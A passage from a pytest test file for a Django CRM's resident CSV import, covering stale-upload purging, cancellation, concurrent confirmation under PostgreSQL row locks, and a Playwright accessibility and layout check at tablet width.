    with time_machine.travel(timezone.now() + dt.timedelta(hours=20)):
        fresh = upload(login(cast.coordinator), csv_upload())

    with time_machine.travel(timezone.now() + dt.timedelta(hours=25)):
        deleted = importing.import_uploads_purge()

    assert deleted == 1
    folders = {p.parent.name for p in stored_files(media)}
    assert folders == {fresh} and old not in folders


def test_cancelling_deletes_the_file_and_imports_nothing(cast, login, media):
    client = login(cast.coordinator)
    upload_id = prepared(client)
    before = db_counts()

    response = client.post(reverse("crm:import-cancel", args=[upload_id]))

    assert response.status_code == 302
    assert stored_files(media) == []
    assert db_counts() == before
    assert client.get(reverse("crm:import-preview", args=[upload_id])).status_code == 404


# Two confirms at the same moment (PostgreSQL row locks) ----------------------------------


@pytest.mark.postgres
@pytest.mark.django_db(transaction=True)
def test_two_simultaneous_confirms_import_once(cast, login):
    if connection.vendor != "postgresql":
        skip_or_fail("PostgreSQL (DATABASE_URL=postgres://...)")
    upload_id = prepared(login(cast.coordinator))
    found = importing.import_upload_get(upload_id=upload_id, user=cast.coordinator)
    barrier = threading.Barrier(2)
    results: list[importing.ImportResult] = []
    errors: list[BaseException] = []

    def run() -> None:
        try:
            barrier.wait(timeout=10)
            results.append(importing.residents_import(upload=found, actor=cast.coordinator))
        except BaseException as exc:  # reported to the test thread below
            errors.append(exc)
        finally:
            connections.close_all()

    threads = [threading.Thread(target=run) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)

    assert errors == []
    # The second waited for the first's lock, then found its finished state.
    assert sorted(r.already_done for r in results) == [False, True]
    assert Case.objects.filter(initiative=cast.initiative_a).count() == 2
    assert CaseEvent.objects.filter(action=importing.IMPORT_ACTION).count() == 2


# In a real browser ------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_the_whole_import_works_in_a_browser_at_tablet_width(
    browser_page, live_server, cast, media, monkeypatch
):
    from axe_playwright_python.sync_playwright import Axe
    from playwright.sync_api import expect

    from tests.test_browser import log_in

    # One row per batch: the progress page must carry on by itself (htmx) to the end.
    monkeypatch.setattr(importing, "BATCH", 1)
    page = browser_page
    page.set_viewport_size({"width": 768, "height": 1024})
    log_in(page, live_server, cast.coordinator.email)
    problems: list[str] = []

    def check(step: str) -> None:
        overflow = page.evaluate("document.documentElement.scrollWidth - window.innerWidth")
        if overflow > 0:
            problems.append(f"{step}: {overflow}px wider than the screen")
        for violation in Axe().run(page).response["violations"]:
            if violation.get("impact") in ("serious", "critical"):
                problems.append(f"{step}: {violation['id']} ({len(violation['nodes'])}×)")

    def submit_with_an_error() -> None:
        # The form comes back at the same address, so the address says nothing: wait for
        # the error summary, which only the answer has, and for that page to finish loading
        # before anything reads it (on a busy machine the old page lingers).
        page.locator("form.wd-form button[type=submit]").click()
        expect(page.locator(".wd-import-error-summary")).to_be_visible()
        page.wait_for_load_state("load")

    page.goto(live_server.url + reverse("crm:import-upload"))
    submit_with_an_error()
    check("upload with an error")
    file = media / "lijst.csv"
    file.write_text(CSV_TEXT, encoding="utf-8")
    page.set_input_files("#id_file", str(file))
    page.locator("form.wd-form button[type=submit]").click()
    page.wait_for_url("**/kolommen/")
    page.select_option("#map_postcode", "")
    submit_with_an_error()
    page.locator('a[href="#map_postcode"]').click()
    expect(page.locator("#map_postcode")).to_be_focused()
    check("mapping with an error")
    page.select_option("#map_postcode", "6")
    page.locator("form.wd-form button[type=submit]").click()
    page.wait_for_url("**/controle/")
    check("preview")
    page.locator("#import-confirm").click()
    expect(page.locator("#import-result-counts")).to_be_visible(timeout=30_000)
    page.wait_for_load_state("load")
    check("result")

    assert problems == []
    assert Case.objects.filter(initiative=cast.initiative_a).count() == 2
